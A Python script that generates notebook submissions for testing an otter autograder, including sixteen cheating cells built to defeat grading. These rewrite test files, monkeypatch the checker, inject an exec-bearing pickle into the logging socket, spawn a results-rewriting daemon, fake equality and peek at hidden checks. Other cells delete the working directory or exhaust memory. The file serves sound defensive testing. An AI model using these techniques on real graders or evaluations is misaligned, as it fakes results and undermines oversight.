# ruff: noqa: E501 (the cells of the cheating submissions are notebook code, kept verbatim)
"""Make the prepared submissions the grading tests use, from the built notebooks.

They are generated rather than committed so that they follow the masters: each is the
student notebook of an exercise (``exercises/student/<name>.ipynb``) with its answer
cells filled in from the reference solution (``_build/exercises/<name>/dist/autograder``)
or left blank (``{"blank": True}``), and then one change applied. The expected result of
each says what grading must make of the file: ``("graded", {questions that must score
zero})`` (every other question must get full marks), or the status of a bad submission.

Four groups: wrong answers (one kind of mistake each), valid answers written in other
styles than the solution (full marks), cheating submissions (one per attack on the
grading, each on blank or wrong answers, so that any point they get is a point stolen),
and bad files. ``CHEATS`` names the cheating ones.

Usage: ``python -m tests.exercises.submissions.make_submissions OUT`` (after ``make exercises``).
"""

import copy
import json
import sys
from collections.abc import Callable
from pathlib import Path

from exercises.catalog import BUILD, STUDENT, names

ANSWER_TAG = "otter_answer_cell"

Edit = Callable[[list[str]], list[str] | None]


def _replace(old: str, new: str, count: int = 1) -> Callable[[str], str]:
    def edit(source: str) -> str:
        if old not in source:
            raise ValueError(f"{old!r} not in the answer cell")
        return source.replace(old, new, count)

    return edit


# ---- cheating cells: each tries to get marks for blank or wrong answers ----------------------

# the graded checks must not run where these cells ran: rewrite whatever test files are near
REWRITE_TESTS = """\
import glob, os
for path in glob.glob('**/tests/*.py', recursive=True) + glob.glob('/autograder/**/tests/*.py', recursive=True):
    name = os.path.basename(path)[:-3]
    open(path, 'w').write(f'from otter.test_files import test_case\\nOK_FORMAT = False\\nname = "{name}"\\npoints = 3\\n@test_case(points=3)\\ndef test_pass():\\n    pass\\n')
for path in glob.glob('**/judge.py', recursive=True) + glob.glob('/autograder/**/judge.py', recursive=True):
    open(path, 'w').write('raise SystemExit')
"""
# make every test file otter loads pass, and every result count as full marks
WRAP_CHECKER = """\
try:
    import otter.test_files.abstract_test as abstract_test
    abstract_test.TestFile.passed_all = property(lambda self: True)
    abstract_test.TestFile.score = property(lambda self: self.possible)
    import otter.execute.checker as checker
    original = checker.Checker.check
    def always(*args, **kwargs):
        result = original(*args, **kwargs)
        for r in getattr(result, 'test_case_results', []):
            r.passed = True
        return result
    checker.Checker.check = always
except Exception as error:
    print('no otter here:', error)
"""
# rewrite the results pickle when it is written, and again at exit
PICKLE_AND_ATEXIT = """\
import atexit, glob, json, os, pickle, tempfile
real_dump = pickle.dump
def dump(obj, handle, *args, **kwargs):
    for test in getattr(obj, 'results', {}).values():
        test.update_score(test.possible)
    return real_dump(obj, handle, *args, **kwargs)
pickle.dump = dump
def rewrite():
    for path in glob.glob(os.path.join(tempfile.gettempdir(), '*.pkl')):
        try:
            obj = pickle.load(open(path, 'rb'))
            for test in obj.results.values():
                test.update_score(test.possible)
            real_dump(obj, open(path, 'wb'))
        except Exception:
            pass
    for path in glob.glob('*.json') + glob.glob('.*.json') + glob.glob('../results/*.json'):
        try:
            data = json.load(open(path))
            data['answers'] = {q: {'value': 'full marks please'} for q in 'q1 q2 q3 q4 q5'.split()}
            json.dump(data, open(path, 'w'))
        except Exception:
            pass
atexit.register(rewrite)
"""
# send otter's logging server (in the process that holds the judge) a pickle that replaces
# the judge by one that gives full marks
LOGGING_PICKLE = """\
import pickle, socket, struct
class FullMarks:
    def __reduce__(self):
        return (exec, ("import sys\\n"
                       "j = sys.modules['judge']\\n"
                       "j.judge = lambda a, s, d: {q: j.Verdict(p, p, 'passed') "
                       "for q, p in j.POINTS[a].items()}\\n", {}))
try:
    import otter.logging
    for handler in otter.logging._handlers:
        if hasattr(handler, 'port'):
            data = pickle.dumps(FullMarks())
            with socket.create_connection((handler.host, handler.port)) as connection:
                connection.sendall(struct.pack('>L', len(data)) + data)
            print('sent to port', handler.port)
except Exception as error:
    print('no otter logging server here:', error)
"""
# a detached daemon (double fork, setsid) that gives full marks in every results file it
# finds, for a minute, after otter wrote it
DAEMON_REWRITES_RESULTS = """\
import glob, json, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 60
        while time.monotonic() < end:
            for path in glob.glob('../results/*.json'):
                try:
                    data = json.load(open(path))
                    for test in data.get('tests', []):
                        test['score'] = test.get('max_score', test.get('score'))
                    data['score'] = sum(t.get('score') or 0 for t in data.get('tests', []))
                    json.dump(data, open(path, 'w'))
                except Exception:
                    pass
            time.sleep(0.01)
    os._exit(0)
"""
# lie from NumPy's comparisons, but only to graded checks (functions named test_*)
PATCH_NUMPY = """\
import sys
import numpy
def lying(real):
    def check(*args, **kwargs):
        frame = sys._getframe(1)
        while frame is not None:
            if frame.f_code.co_name.startswith(('test_', '_nonu_', '_reinit_', 'judge')):
                return True
            frame = frame.f_back
        return real(*args, **kwargs)
    return check
for name in ['allclose', 'isclose', 'array_equal', 'all', 'any']:
    setattr(numpy, name, lying(getattr(numpy, name)))
"""
# look for the graded checks on disk and take the count formula from them
READ_HIDDEN = """\
import glob, re
FORMULA = r'(math\\.factorial\\(h\\) ?\\* ?2 ?\\*\\* ?h)'
found = ''
for pattern in ['**/*.py', '../**/*.py', '/autograder/**/*.py', '/work/**/exercises/*.py',
                '/work/**/judge.py', '/tmp/**/*.py', '/root/**/*.py']:
    for path in glob.glob(pattern, recursive=True):
        try:
            text = open(path).read()
        except Exception:
            continue
        match = re.search(FORMULA, text)
        if match:
            found = match[1]
print('formula found:', repr(found))
def count_equivalent(H):
    return eval(found, {'math': __import__('math'), 'h': H}) if found else 0
"""
# values whose == always says yes
LYING_EQ = """\
class Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
class YesFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return YesFloat(0.0)
    def __rsub__(self, other): return YesFloat(0.0)
    def __abs__(self): return YesFloat(0.0)
    __hash__ = float.__hash__
class YesStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
"""
# read the expected value from the caller's frame
GETFRAME = """\
import sys
def _peek(*names):
    frame = sys._getframe(2)
    while frame is not None:
        for name in names:
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return None
"""
# rewrite the collection cell before it runs, and write the answers file first
INPUT_TRANSFORMER = """\
import json
def hijack(lines):
    source = ''.join(lines)
    if 'write_answers' in source or 'judge' in source:
        return ['import json\\n', 'json.dump({"assignment": "nonuniqueness", "answers": {}}, open("answers.json", "w"))\\n']
    return lines
get_ipython().input_transformers_post.append(hijack)
import collect as _c
"""
# patch the course package in the kernel: every training run reports success
PATCH_MLINTRO = """\
import numpy as np
import mlintro.training as _t
_real = _t.adam_fit
def adam_fit(params, x, y, **kwargs):
    fit = _real(params, x, y, **{**kwargs, 'max_epochs': 1})
    return fit._replace(losses=np.full(500, 1e-6), epochs=500, converged=True)
_t.adam_fit = adam_fit
training.adam_fit = adam_fit
"""

# after the answers are written: make them a link to an endless file and a FIFO
ANSWERS_TRAP = """\
import atexit, os
def trap():
    for name in ['answers.json', '.judge-answers.json']:
        if os.path.lexists(name):
            os.remove(name)
    os.symlink('/dev/zero', 'answers.json')
    os.mkfifo('.judge-answers.json')
atexit.register(trap)
"""

CHEATS = {
    "cheat-answers-file-trap",
    "cheat-rewrites-tests",
    "cheat-wraps-checker",
    "cheat-pickle-and-atexit",
    "cheat-logging-pickle",
    "cheat-daemon-rewrites-results",
    "cheat-patches-numpy-in-tests",
    "cheat-reads-hidden-checks",
    "cheat-lying-eq-int",
    "cheat-lying-eq-float",
    "cheat-lying-eq-str",
    "cheat-reads-caller-frame",
    "cheat-hijacks-collection",
    "cheat-patches-mlintro",
    "cheat-fake-answers-file",
    "cheat-handmade-bad-fit",
}
ALL_NONU = {"q1", "q2", "q3", "q4", "q5"}
ALL_REINIT = {"q1", "q2", "q3", "q4"}

# name -> (assignment, {answer cell index: edit}, extra cells (index, source) or None, expected)
# expected: ("graded", set of questions that must lose all their points) or ("error"|"timeout", "")
CASES: dict[str, tuple] = {
    # ---- the references and the blanks
    "reinit-reference": ("reinitialization", {}, None, ("graded", set())),
    "nonu-reference": ("nonuniqueness", {}, None, ("graded", set())),
    # ---- wrong answers, one kind of mistake each
    "reinit-no-reinitialization": (
        "reinitialization",
        {
            0: _replace(
                "models.init_params(jax.random.key(seed), (1, 3, 1))",
                "models.init_params(jax.random.key(seeds[0]), (1, 3, 1))",
            )
        },
        None,
        ("graded", {"q1"}),
    ),
    "reinit-same-seed-repeated": (
        "reinitialization",
        {0: _replace("seeds = [0, 1, 2, 3, 4]", "seeds = [0, 0, 1, 2, 3]")},
        None,
        ("graded", {"q1"}),
    ),
    "reinit-hardcoded-spread": (
        "reinitialization",
        {1: _replace("predictions = np.asarray(predictions, dtype=float)", "return 0.0")},
        None,
        ("graded", {"q2"}),
    ),
    "reinit-lsq-one-start": (
        "reinitialization",
        {
            2: _replace(
                "least_squares.initial_guess(jax.random.key(seed))",
                "least_squares.initial_guess(jax.random.key(ls_seeds[0]))",
            )
        },
        None,
        ("graded", {"q3"}),
    ),
    "reinit-diagnose-misses-nan": (
        "reinitialization",
        {3: _replace("if not np.all(np.isfinite(losses)):", "if False:")},
        None,
        ("graded", {"q4"}),
    ),
    "reinit-hardcoded-bad-fit": (
        "reinitialization",
        {
            3: _replace(
                "bad_fit = training.adam_fit(",
                "bad_fit = training.TrainingRun(fits[0].params, np.array([0.3, 0.2, 0.1]), 3, False)\n"
                "unused = training.adam_fit(",
            )
        },
        None,
        ("graded", {"q4"}),
    ),
    "nonu-permutation-changes-function": (
        "nonuniqueness",
        {0: _replace("(w1[perm, :], b1)", "(w1, b1)")},
        None,
        ("graded", {"q1"}),
    ),
    "nonu-flip-keeps-output-weight": (
        "nonuniqueness",
        {1: _replace("(w1 * sign[:, None], b1)", "(w1, b1)")},
        None,
        ("graded", {"q2"}),
    ),
    "nonu-wrong-count-formula": (
        "nonuniqueness",
        {2: _replace("math.factorial(H) * 2**H", "math.factorial(H) * 2 * H")},
        None,
        ("graded", {"q3"}),
    ),
    "nonu-hardcoded-count": (
        "nonuniqueness",
        {2: _replace("return math.factorial(H) * 2**H", "return 48")},
        None,
        ("graded", {"q3"}),
    ),
    "nonu-canonical-without-signs": (
        "nonuniqueness",
        {3: _replace("sign = np.where(w0[0] < 0, -1.0, 1.0)", "sign = np.ones(w0.shape[1])")},
        None,
        ("graded", {"q4"}),
    ),
    "nonu-flat-directions-all": (
        "nonuniqueness",
        {4: _replace("return eigenvectors[:, small]", "return eigenvectors")},
        None,
        ("graded", {"q5"}),
    ),
    "nonu-flat-directions-rows": (
        "nonuniqueness",
        {4: _replace("return eigenvectors[:, small]", "return eigenvectors[:, small].T")},
        None,
        ("graded", {"q5"}),
    ),
    "nonu-flat-directions-signed": (
        "nonuniqueness",
        {4: _replace("np.abs(eigenvalues) < rtol", "eigenvalues < rtol")},
        None,
        ("graded", {"q5"}),
    ),
    "nonu-permutation-inverse": (
        "nonuniqueness",
        {0: _replace("perm = np.asarray(perm)", "perm = np.argsort(perm)")},
        None,
        ("graded", {"q1"}),
    ),
    "nonu-flip-forgets-bias": (
        "nonuniqueness",
        {1: _replace("(w0 * sign, b0 * sign)", "(w0 * sign, b0)")},
        None,
        ("graded", {"q2"}),
    ),
    "nonu-count-misses-flips": (
        "nonuniqueness",
        {2: _replace("math.factorial(H) * 2**H", "math.factorial(H)")},
        None,
        ("graded", {"q3"}),
    ),
    "nonu-count-returns-float": (
        "nonuniqueness",
        {2: _replace("math.factorial(H) * 2**H", "float(math.factorial(H) * 2**H)")},
        None,
        ("graded", {"q3"}),
    ),
    "nonu-canonical-without-sorting": (
        "nonuniqueness",
        {3: _replace('order = np.argsort(w0[0], kind="stable")', "order = np.arange(w0.shape[1])")},
        None,
        ("graded", {"q4"}),
    ),
    "reinit-spread-whole-array": (
        "reinitialization",
        {
            1: _replace(
                "return float(np.max(predictions.max(axis=0) - predictions.min(axis=0)))",
                "return float(predictions.max() - predictions.min())",
            )
        },
        None,
        ("graded", {"q2"}),
    ),
    "reinit-spread-mutates": (
        "reinitialization",
        {
            1: _replace(
                "predictions = np.asarray(predictions, dtype=float)",
                "predictions = np.asarray(predictions, dtype=float)\n    predictions.sort(axis=0)",
            )
        },
        None,
        ("graded", {"q2"}),
    ),
    "reinit-diagnose-last-only": (
        "reinitialization",
        {3: _replace("if not np.all(np.isfinite(losses)):", "if not np.isfinite(losses[-1]):")},
        None,
        ("graded", {"q4"}),
    ),
    "reinit-bad-fit-stopped-early": (
        "reinitialization",
        {3: _replace("step_size=1.0,", "step_size=0.01,\n    max_epochs=3,")},
        None,
        ("graded", {"q4"}),
    ),
    "reinit-other-step-size": (
        "reinitialization",
        {
            0: _replace(
                "data.X, data.Y, progress=False\n    )\n    for seed in seeds",
                "data.X, data.Y, step_size=0.02, progress=False\n    )\n    for seed in seeds",
            )
        },
        None,
        ("graded", {"q1"}),
    ),
    # ---- valid answers in other styles than the solution: full marks
    "nonu-valid-other-style": (
        "nonuniqueness",
        {
            0: _replace(
                "(w0, b0), (w1, b1) = params\n    perm = np.asarray(perm)\n"
                "    return [(w0[:, perm], b0[perm]), (w1[perm, :], b1)]",
                "(w0, b0), (w1, b1) = params\n    idx = jnp.asarray(list(perm))\n"
                "    return [(jnp.take(jnp.asarray(w0), idx, axis=1), jnp.asarray(b0)[idx]),\n"
                "            (jnp.asarray(w1)[idx], jnp.asarray(b1))]",
            ),
            1: _replace(
                "(w0, b0), (w1, b1) = params\n    sign = np.ones(np.shape(b0))\n"
                "    sign[i] = -1.0\n    return [(w0 * sign, b0 * sign), (w1 * sign[:, None], b1)]",
                "import copy\n    new = copy.deepcopy([[np.array(a) for a in layer] for layer in params])\n"
                "    new[0][0][0, i] *= -1\n    new[0][1][i] *= -1\n    new[1][0][i, 0] *= -1\n"
                "    return [tuple(layer) for layer in new]",
            ),
            2: _replace(
                "return math.factorial(H) * 2**H",
                "total = 1\n    for k in range(1, H + 1):\n        total *= 2 * k\n    return total",
            ),
            3: _replace(
                "sign = np.where(w0[0] < 0, -1.0, 1.0)\n"
                "    w0, b0, w1 = w0 * sign, b0 * sign, w1 * sign[:, None]\n"
                '    order = np.argsort(w0[0], kind="stable")',
                "sign = np.sign(w1[:, 0])\n"
                "    w0, b0, w1 = w0 * sign, b0 * sign, w1 * sign[:, None]\n"
                "    order = np.argsort(-w1[:, 0])",
            ),
            4: _replace(
                "eigenvalues, eigenvectors = np.linalg.eigh(h)",
                "eigenvalues, eigenvectors = np.linalg.eig(h)\n"
                "    eigenvalues, eigenvectors = eigenvalues.real, eigenvectors.real",
            ),
        },
        None,
        ("graded", set()),
    ),
    "reinit-valid-other-style": (
        "reinitialization",
        {
            0: _replace("seeds = [0, 1, 2, 3, 4]", "seeds = list(range(100, 106))"),
            1: _replace(
                "predictions = np.asarray(predictions, dtype=float)\n"
                "    return float(np.max(predictions.max(axis=0) - predictions.min(axis=0)))",
                "columns = list(zip(*[list(map(float, row)) for row in predictions]))\n"
                "    return max(max(c) - min(c) for c in columns)",
            ),
            2: _replace("ls_seeds = [10, 11, 12, 13, 14]", "ls_seeds = (3, 1, 4, 15, 9, 2)"),
            3: _replace(
                "models.init_params(jax.random.key(0), (1, 3, 1)),\n    data.X,\n    data.Y,\n"
                "    step_size=1.0,",
                "models.init_params(jax.random.key(7), (1, 3, 1), scale=10.0),\n    data.X,\n"
                "    data.Y,",
            ),
        },
        [(0, "import math")],
        ("graded", set()),
    ),
    # ---- cheating: each must score zero on what it targets
    "cheat-rewrites-tests": (
        "nonuniqueness",
        {"blank": True},
        [(-1, REWRITE_TESTS)],
        ("graded", ALL_NONU),
    ),
    "cheat-wraps-checker": (
        "nonuniqueness",
        {"blank": True},
        [(-1, WRAP_CHECKER)],
        ("graded", ALL_NONU),
    ),
    "cheat-pickle-and-atexit": (
        "reinitialization",
        {"blank": True},
        [(-1, PICKLE_AND_ATEXIT)],
        ("graded", ALL_REINIT),
    ),
    "cheat-logging-pickle": (
        "reinitialization",
        {"blank": True},
        [(-1, LOGGING_PICKLE)],
        ("graded", ALL_REINIT),
    ),
    "cheat-daemon-rewrites-results": (
        "reinitialization",
        {"blank": True},
        [(-1, DAEMON_REWRITES_RESULTS)],
        ("graded", ALL_REINIT),
    ),
    "cheat-patches-numpy-in-tests": (
        "nonuniqueness",
        {
            0: _replace("(w1[perm, :], b1)", "(w1, b1)"),
            1: _replace("(w1 * sign[:, None], b1)", "(w1, b1)"),
            3: _replace("sign = np.where(w0[0] < 0, -1.0, 1.0)", "sign = np.ones(w0.shape[1])"),
            4: _replace("return eigenvectors[:, small]", "return eigenvectors"),
        },
        [(-1, PATCH_NUMPY)],
        ("graded", {"q1", "q2", "q4", "q5"}),
    ),
    "cheat-reads-hidden-checks": (
        "nonuniqueness",
        {2: _replace("def count_equivalent(H):", "def _unused(H):")},
        [(-1, READ_HIDDEN)],
        ("graded", {"q3"}),
    ),
    "cheat-lying-eq-int": (
        "nonuniqueness",
        {2: _replace("return math.factorial(H) * 2**H", "return Yes(0)")},
        [(4, LYING_EQ)],
        ("graded", {"q3"}),
    ),
    "cheat-lying-eq-float": (
        "reinitialization",
        {
            1: _replace(
                "return float(np.max(predictions.max(axis=0) - predictions.min(axis=0)))",
                "return YesFloat(0.0)",
            )
        },
        [(4, LYING_EQ)],
        ("graded", {"q2"}),
    ),
    "cheat-lying-eq-str": (
        "reinitialization",
        {
            3: _replace(
                '    if not np.all(np.isfinite(losses)):\n        return "diverged"\n',
                "    return YesStr('stuck')\n",
            )
        },
        [(4, LYING_EQ)],
        ("graded", {"q4"}),
    ),
    "cheat-reads-caller-frame": (
        "nonuniqueness",
        {
            2: _replace(
                "return math.factorial(H) * 2**H",
                "value = _peek('expected', 'count', 'reference')\n    return value if isinstance(value, int) else 0",
            )
        },
        [(4, GETFRAME)],
        ("graded", {"q3"}),
    ),
    "cheat-hijacks-collection": (
        "nonuniqueness",
        {"blank": True},
        [(-1, INPUT_TRANSFORMER)],
        ("graded", ALL_NONU),
    ),
    "cheat-patches-mlintro": (
        "reinitialization",
        {},
        [(4, PATCH_MLINTRO)],
        ("graded", {"q1", "q4"}),
    ),
    "cheat-fake-answers-file": (
        "reinitialization",
        {"blank": True},
        [
            (
                -1,
                "import json\nfor name in ['answers.json', '.judge-answers.json']:\n"
                "    json.dump({'assignment': 'reinitialization', 'seed': 0, 'answers': {}}, open(name, 'w'))\n"
                "import os\nos.chmod('answers.json', 0o444)",
            )
        ],
        ("graded", ALL_REINIT),
    ),
    "cheat-answers-file-trap": (
        "nonuniqueness",
        {"blank": True},
        [(-1, ANSWERS_TRAP)],
        ("error", ALL_NONU),
    ),
    "cheat-handmade-bad-fit": (
        "reinitialization",
        {
            3: _replace(
                "bad_fit = training.adam_fit(",
                "bad_fit = training.TrainingRun(fits[0].params, np.append(np.full(499, 0.1), np.nan), 500, False)\n"
                "unused = training.adam_fit(",
            )
        },
        None,
        ("graded", {"q4"}),
    ),
    # ---- bad submissions
    "bad-syntax-error": (
        "nonuniqueness",
        {2: _replace("def count_equivalent(H):", "def count_equivalent(H)")},
        None,
        ("graded", {"q3"}),
    ),
    "bad-cell-raises": (
        "nonuniqueness",
        {
            1: _replace(
                '    """Return the', '    raise RuntimeError("not done yet")\n    """Return the'
            )
        },
        None,
        ("graded", {"q2"}),
    ),
    "bad-nan-parameters": (
        "reinitialization",
        {
            0: _replace(
                "for seed in seeds\n]",
                "for seed in seeds\n]\nfits = [f._replace(params=jax.tree.map("
                "lambda a: a * jnp.nan, f.params)) for f in fits]",
            )
        },
        None,
        ("graded", {"q1"}),
    ),
    "bad-infinite-loop": (
        "nonuniqueness",
        {},
        [(3, "while True:\n    pass")],
        ("timeout", set()),
    ),
    "bad-deleted-cells": ("nonuniqueness", {"delete": [1, 3]}, None, ("graded", {"q2", "q4"})),
    "bad-duplicated-cells": ("nonuniqueness", {"duplicate": True}, None, ("graded", set())),
    "bad-sys-exit": (
        "nonuniqueness",
        {},
        [(5, "import sys\nsys.exit(1)")],
        ("graded", set()),
    ),
    "bad-deletes-files": (
        "nonuniqueness",
        {},
        [
            (
                5,
                "import os, shutil\n"
                "for name in os.listdir('.'):\n"
                "    if os.path.isdir(name):\n"
                "        shutil.rmtree(name, ignore_errors=True)\n"
                "    else:\n"
                "        os.remove(name)",
            )
        ],
        ("graded", set()),
    ),
    "bad-memory-hog": (
        "nonuniqueness",
        {},
        [(5, "hog = bytearray(64 * 1024**3)")],
        ("graded", set()),
    ),
    "bad-reads-tests": (
        "nonuniqueness",
        {2: _replace("return math.factorial(H) * 2**H", "return 48")},
        [
            (
                5,
                "import glob\n"
                "stolen = {p: open(p).read() for p in glob.glob('tests/*.py')}\n"
                "print(len(stolen), 'test files read')",
            )
        ],
        ("graded", {"q3"}),
    ),
}
# files that are not notebooks at all: name -> (content, expected)
RAW_CASES = {
    "bad-invalid-json": (b'{"cells": [ {"cell_type": "code", ', ("error", set())),
    "bad-empty-file": (b"", ("error", set())),
    "bad-not-a-notebook": (b'{"hello": "world"}', ("error", set())),
}


def _load(path: Path) -> dict:
    return json.loads(path.read_text())


def filled_notebook(name: str, build: Path, student: Path) -> dict:
    """Return the student notebook with the reference answers filled in."""
    notebook = _load(student / f"{name}.ipynb")
    reference = _load(build / name / "dist" / "autograder" / f"{name}.ipynb")
    solutions = [
        c["source"]
        for c in reference["cells"]
        if "otter_assign_solution_cell" in c.get("metadata", {}).get("tags", [])
    ]
    answers = [c for c in notebook["cells"] if ANSWER_TAG in c.get("metadata", {}).get("tags", [])]
    if len(answers) != len(solutions):
        raise ValueError(f"{name}: {len(answers)} answer cells but {len(solutions)} solutions")
    for cell, source in zip(answers, solutions, strict=True):
        cell["source"] = "".join(source) if isinstance(source, list) else source
    return notebook


def _code_cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [],
            "execution_count": None}  # fmt: skip


def make(case: str, build: Path, student: Path) -> bytes:
    """Return the bytes of the submission ``case``."""
    if case in RAW_CASES:
        return RAW_CASES[case][0]
    name, edits, extra, _ = CASES[case]
    if edits.get("blank"):
        notebook = _load(student / f"{name}.ipynb")
        edits = {}
    else:
        notebook = filled_notebook(name, build, student)
    cells = notebook["cells"]
    answers = [
        i for i, c in enumerate(cells) if ANSWER_TAG in c.get("metadata", {}).get("tags", [])
    ]
    for key, edit in edits.items():
        if key == "delete":
            for index in sorted((answers[k] for k in edit), reverse=True):
                del cells[index]
        elif key == "duplicate":
            notebook["cells"] = [copy.deepcopy(c) for c in cells for _ in range(2)]
        else:
            cell = cells[answers[key]]
            cell["source"] = edit(cell["source"])
    for position, source in sorted(extra or [], reverse=True):
        # -1: after the last answer cell, where a cheat has the most to tamper with
        index = answers[-1] + 1 if position == -1 else position
        cells.insert(index, _code_cell(source))
    return (json.dumps(notebook, indent=1) + "\n").encode()


def expected(case: str) -> tuple[str, set[str]]:
    """Return the status and the questions that must score zero for ``case``."""
    return RAW_CASES[case][1] if case in RAW_CASES else CASES[case][3]


def all_cases() -> list[str]:
    """Return the names of all prepared submissions."""
    return sorted([*CASES, *RAW_CASES])


def write_all(out: Path, cases: list[str] | None = None) -> dict[str, Path]:
    """Write the submissions (all by default) to ``out``; return their paths by case."""
    out.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in cases or all_cases():
        paths[case] = out / f"{case}.ipynb"
        paths[case].write_bytes(make(case, BUILD, STUDENT))
    return paths


def write_blank(out: Path) -> dict[str, Path]:
    """Copy the unanswered student notebooks to ``out`` as ``<name>-blank.ipynb``."""
    out.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name in names():
        paths[name] = out / f"{name}-blank.ipynb"
        paths[name].write_bytes((STUDENT / f"{name}.ipynb").read_bytes())
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python -m tests.exercises.submissions.make_submissions OUT")
    for path in write_all(Path(sys.argv[1])).values():
        print(path)
    for path in write_blank(Path(sys.argv[1])).values():
        print(path)
